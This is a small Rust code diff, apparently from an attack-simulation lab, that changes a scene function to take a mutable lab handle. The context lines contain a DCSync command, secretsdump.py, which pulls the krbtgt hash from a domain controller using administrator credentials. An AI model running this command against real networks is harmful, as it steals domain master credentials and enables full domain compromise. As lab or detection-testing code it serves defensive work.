@@ -20,7 +20,7 @@ pub(super) const SCENE: Scene = Scene::attack(
     play,
 );
 
-fn play(lab: &Lab) -> Result<()> {
+fn play(lab: &mut Lab) -> Result<()> {
     lab.host("attacker")?.script(
         r#"secretsdump.py -just-dc-user HAWK/krbtgt "$DOMAIN/dana.admin:$ADMIN_PASSWORD@dc1.$DOMAIN" |
                grep -E 'krbtgt:502:|DRSR SessionError'"#,
